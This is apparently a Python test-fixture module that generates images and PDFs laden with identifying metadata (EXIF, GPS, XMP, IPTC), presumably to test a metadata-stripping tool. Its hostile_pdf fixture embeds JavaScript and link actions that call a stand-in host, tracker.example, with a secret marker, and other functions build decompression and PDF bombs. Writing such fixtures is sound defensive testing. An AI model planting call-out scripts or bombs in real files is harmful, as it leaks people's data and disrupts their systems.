"""Test files made on the spot, each carrying the metadata a phone or an editor would leave behind."""

import io
import struct
import zlib

import pikepdf
from PIL import Image, ImageCms, PngImagePlugin

SECRET_TEXT = "SECRET-METADATA-7731"
XMP = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{SECRET_TEXT}</dc:creator></rdf:Description>'
    '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
).encode()


def exif(orientation: int | None = None) -> bytes:
    data = Image.Exif()
    data[0x010F] = "PhoneMaker"  # Make
    data[0x0110] = SECRET_TEXT  # Model
    data[0x0131] = SECRET_TEXT  # Software
    if orientation:
        data[0x0112] = orientation
    gps = {1: "N", 2: (53.0, 54.0, 12.5), 3: "E", 4: (27.0, 33.0, 54.0)}  # Minsk
    data[0x8825] = gps
    return data.tobytes()


def icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def picture(size=(64, 48), mode="RGB") -> Image.Image:
    image = Image.new(mode, size, (200, 40, 40) if mode.startswith("RGB") else 1)
    for x in range(size[0] // 2):
        for y in range(size[1]):
            image.putpixel((x, y), (20, 90, 200) if mode.startswith("RGB") else 0)
    return image


def jpeg(orientation=None, size=(64, 48)) -> bytes:
    out = io.BytesIO()
    picture(size).save(out, "JPEG", exif=exif(orientation), icc_profile=icc(), comment=SECRET_TEXT.encode(), xmp=XMP)
    return out.getvalue()


def png() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET_TEXT)
    info.add_itxt("Description", SECRET_TEXT)
    info.add_text("XML:com.adobe.xmp", XMP.decode())
    out = io.BytesIO()
    picture(mode="RGBA").save(out, "PNG", pnginfo=info, icc_profile=icc(), exif=exif())
    return out.getvalue()


def webp() -> bytes:
    out = io.BytesIO()
    picture().save(out, "WEBP", exif=exif(), icc_profile=icc(), xmp=XMP)
    return out.getvalue()


def gif(frames=1) -> bytes:
    images = [picture().rotate(i * 90).convert("P") for i in range(frames)]
    out = io.BytesIO()
    images[0].save(
        out, "GIF", save_all=frames > 1, append_images=images[1:], duration=120, loop=0, comment=SECRET_TEXT.encode()
    )
    return out.getvalue()


def pdf() -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    document.docinfo["/Author"] = SECRET_TEXT
    document.docinfo["/Title"] = SECRET_TEXT
    with document.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [SECRET_TEXT]
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def truncated_jpeg() -> bytes:
    data = jpeg(size=(400, 300))
    return data[: len(data) // 2]


def big_png(width: int, height: int) -> bytes:
    """A PNG with many pixels but a tiny file: what a decompression bomb looks like."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG", optimize=True)
    return out.getvalue()


def png_size(data: bytes) -> tuple[int, int]:
    return struct.unpack(">II", data[16:24])


# --- Documents and other photo formats -------------------------------------------------------------------------

TEXT_LINES = [
    "Statement of 12 March. The prisoner was moved to another colony without notice to the family.",
    "Letters are held back for weeks; the lawyer was refused a visit twice. Parcels are returned unopened.",
    "The family asks that the name is not published. Contact through the organisation only.",
]


def _page_content(font_size: int = 10, with_photo: bool = True) -> bytes:
    """A page's drawing: dark bars, lines of text in Helvetica and, optionally, the photo."""
    ops = ["0.2 0.3 0.6 rg 40 700 515 40 re f", "0 g"]
    for number, line in enumerate(TEXT_LINES * 4):
        ops.append(f"BT /F1 {font_size} Tf 50 {660 - number * (font_size + 4)} Td ({line}) Tj ET")
    if with_photo:
        ops.append("q 200 0 0 150 50 300 cm /Im1 Do Q")
    return "\n".join(ops).encode()


def text_pdf(pages: int = 1, font_size: int = 10, with_photo: bool = False, **save_options) -> bytes:
    """A plain document of text pages (A4-ish, 595×842 points)."""
    document = pikepdf.new()
    font = document.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    for _ in range(pages):
        resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        if with_photo:
            resources.XObject = pikepdf.Dictionary(Im1=_photo_xobject(document))  # exiftool -ee reads "Im<n>"
        page = pikepdf.Page(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Page,
                MediaBox=[0, 0, 595, 842],
                Resources=resources,
                Contents=document.make_stream(_page_content(font_size, with_photo)),
            )
        )
        document.pages.append(page)
    out = io.BytesIO()
    document.save(out, **save_options)
    return out.getvalue()


def _photo_xobject(document) -> pikepdf.Stream:
    """The phone photo as a scanner app embeds it: the JPEG's bytes, EXIF and GPS included, with an XMP stream."""
    image = pikepdf.Stream(document, jpeg(size=(320, 240)))
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width, image.Height, image.BitsPerComponent = 320, 240, 8
    image.ColorSpace, image.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
    metadata = pikepdf.Stream(document, XMP)
    metadata.Type, metadata.Subtype = pikepdf.Name.Metadata, pikepdf.Name.XML
    image.Metadata = document.make_indirect(metadata)
    return document.make_indirect(image)


def hostile_pdf() -> bytes:
    """A one-page PDF carrying everything a document can leak or do: a photo with EXIF and GPS, an XMP stream on
    that image, IPTC in the page's /PieceInfo, an embedded file, JavaScript on opening and in the name tree,
    page and link actions that call out, an annotation with its author, a filled form field, a thumbnail."""
    document = pikepdf.open(io.BytesIO(text_pdf(with_photo=True)))
    page = document.pages[0]
    secret = pikepdf.String(SECRET_TEXT)
    page.obj.PieceInfo = pikepdf.Dictionary(
        Photoshop=pikepdf.Dictionary(
            LastModified=secret, Private=document.make_stream(b"8BIM\x04\x04 IPTC By-line " + SECRET_TEXT.encode())
        )
    )
    page.obj.Thumb = _photo_xobject(document)
    page.obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://tracker.example/{SECRET_TEXT}")
    )
    javascript = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=f"app.launchURL('https://tracker.example/{SECRET_TEXT}');"
    )
    document.Root.OpenAction = document.make_indirect(javascript)
    attached = pikepdf.AttachedFileSpec(document, SECRET_TEXT.encode() * 3, mime_type="text/plain")
    document.attachments["notes.txt"] = attached
    document.Root.Names.JavaScript = pikepdf.Dictionary(Names=["hello", document.make_indirect(javascript)])
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[300, 760, 320, 780], T=secret, Contents=secret
    )
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[40, 700, 555, 740],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://tracker.example/{SECRET_TEXT}"),
    )
    field = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("name"),
            V=secret,
            Rect=[300, 100, 500, 120],
            P=page.obj,
        )
    )
    page.obj.Annots = document.make_indirect([document.make_indirect(note), document.make_indirect(link), field])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[field], NeedAppearances=True)
    document.docinfo["/Author"] = SECRET_TEXT
    with document.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [SECRET_TEXT]
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def encrypted_pdf(user_password: str = "", owner_password: str = "owner-only-secret") -> bytes:
    """Encrypted with an owner password (printing and copying restricted), and a user password if given."""
    return text_pdf(
        encryption=pikepdf.Encryption(
            owner=owner_password, user=user_password, allow=pikepdf.Permissions(extract=False, modify_other=False)
        )
    )


def empty_pdf() -> bytes:
    """A well-formed PDF with no page at all."""
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def pdf_bomb(megabytes: int = 256) -> bytes:
    """A small PDF whose content stream inflates to ``megabytes`` of drawing operators."""
    document = pikepdf.new()
    operators = b"0 0 m 100 100 l S\n" * (megabytes * 2**20 // 18)
    stream = pikepdf.Stream(document, zlib.compress(operators, 9))
    stream.Filter = pikepdf.Name.FlateDecode
    document.pages.append(
        pikepdf.Page(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842], Contents=document.make_indirect(stream)
            )
        )
    )
    out = io.BytesIO()
    document.save(out, compress_streams=False)
    return out.getvalue()


def heic(orientation: int | None = None, size=(64, 48)) -> bytes:
    """What an iPhone saves: HEIC with EXIF (camera, GPS) and XMP."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    picture(size).save(out, "HEIF", exif=exif(orientation), xmp=XMP, quality=90)
    return out.getvalue()


def tiff(pages: int = 1) -> bytes:
    """A scan as TIFF, with its own tags (artist, software, description), EXIF with GPS, XMP and ICC."""
    frames = [picture().rotate(180 * i) for i in range(pages)]
    out = io.BytesIO()
    tags = {315: SECRET_TEXT, 305: SECRET_TEXT, 270: SECRET_TEXT, 700: XMP}  # Artist, Software, ImageDescription
    frames[0].save(
        out,
        "TIFF",
        save_all=pages > 1,
        append_images=frames[1:],
        tiffinfo=tags,
        exif=exif(),
        icc_profile=icc(),
        compression="tiff_deflate",
    )
    return out.getvalue()
